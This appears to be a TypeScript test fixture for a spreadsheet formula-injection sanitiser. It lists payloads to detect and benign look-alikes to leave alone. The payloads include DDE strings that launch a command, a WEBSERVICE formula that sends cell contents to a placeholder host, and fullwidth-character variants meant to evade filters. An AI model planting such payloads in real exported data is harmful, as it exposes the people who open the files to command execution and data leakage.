/** Texts that some spreadsheet would run as a formula, or send for something with. */
export const formulas = [
  '=1+1',
  '+44 20',
  '-x',
  '@cmd',
  '\tx',
  '\rx',
  '\n=1',
  '=HYPERLINK("http://x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A0',
  '+1-cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  ' =1+1',
  '  @SUM(A1)',
  '＝1+1',
  '＋1+1',
  '－1+1x',
  '＠SUM(A1)',
  '=IMPORTXML("http://x","//a")',
  '=WEBSERVICE("http://x?"&A1)',
] as const;

/** Texts that look like one of those, and must stay as they are. */
export const harmless = [
  '-5',
  '+1.5',
  '-0',
  ' -5',
  '-1e3',
  'a=1',
  'x@example.org',
  '’tis',
  '',
] as const;
